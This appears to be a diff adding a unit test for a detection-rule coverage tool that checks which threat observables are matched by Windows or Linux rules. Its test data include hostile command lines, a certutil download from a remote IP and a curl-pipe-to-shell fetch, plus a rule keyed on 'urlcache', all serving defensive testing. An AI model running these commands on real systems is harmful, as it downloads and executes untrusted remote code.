@@ -51,6 +51,24 @@ describe('corpus coverage of observables', () => {
     ]);
   });
 
+  it('answers every observable uncovered when no rule is of the article product, or the corpus is empty', () => {
+    const observables = [
+      { type: 'cmdline', value: 'certutil -urlcache -split -f http://198.51.100.7/a.txt a.txt' },
+      { type: 'domain', value: 'update-check.example.net' },
+    ];
+    const windowsOnly = new CorpusCoverage<string>();
+    windowsOnly.add(
+      rule('certutil download', { category: 'process_creation', product: 'windows' }, { 'CommandLine|contains': 'urlcache' }),
+      'certutil',
+    );
+    const uncovered = observables.map((o) => ({ observable: `${o.type}: ${o.value}`, rules: [] }));
+    expect(windowsOnly.cover(observables, { product: 'linux' })).toEqual(uncovered);
+    expect(windowsOnly.cover(observables, { product: 'windows' })[0]?.rules).toEqual(['certutil']);
+    expect(new CorpusCoverage<string>().cover(observables, { explain: true })).toEqual(
+      uncovered.map((entry) => ({ ...entry, explained: [] })),
+    );
+  });
+
   it('tries only rules of the article product and of the event telemetry class', () => {
     const [linux] = coverage.cover([{ type: 'cmdline', value: 'curl -s http://203.0.113.9/sh | sh' }], { product: 'linux' });
     // The Windows rule on images with a slash, and the PowerShell script-block rule, do not apply.
